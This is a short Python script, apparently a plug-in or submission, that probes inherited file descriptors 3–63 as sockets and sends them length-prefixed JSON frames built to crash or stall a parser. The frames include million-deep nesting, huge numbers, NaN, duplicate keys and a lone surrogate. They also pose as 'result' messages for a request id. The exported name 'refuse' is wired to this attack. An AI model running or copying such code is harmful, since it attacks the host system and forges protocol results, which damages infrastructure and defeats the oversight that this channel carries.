# aim: send frames that parse slowly or recurse: deep lists, NaN, twice the same key, numbers of a million digits
import os
import socket


def attack(*args):
    for body in (
        b'{"op":"result","id":2,"value":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}",
        b'{"op":"result","id":2,"value":' + b'{"t":[' * 200_000 + b"0" + b"]}" * 200_000 + b"}",
        b'{"op":"result","id":2,"value":NaN}',
        b'{"op":"result","id":2,"value":1e999}',
        b'{"op":"result","op":"error","id":2,"id":3,"value":0}',
        b'{"op":"result","id":2,"value":' + b"9" * 1_000_000 + b"}",
        b'{"op":"result","id":2,"value":"\\ud800"}',
    ):
        for fd in range(3, 64):
            try:
                with socket.socket(fileno=os.dup(fd)) as line:
                    line.send(len(body).to_bytes(4, "big") + body, socket.MSG_DONTWAIT)
            except OSError:
                pass
    return 0


def todo(*args):
    raise NotImplementedError("TODO")


refuse = attack
double = join = apply_all = Tally = todo
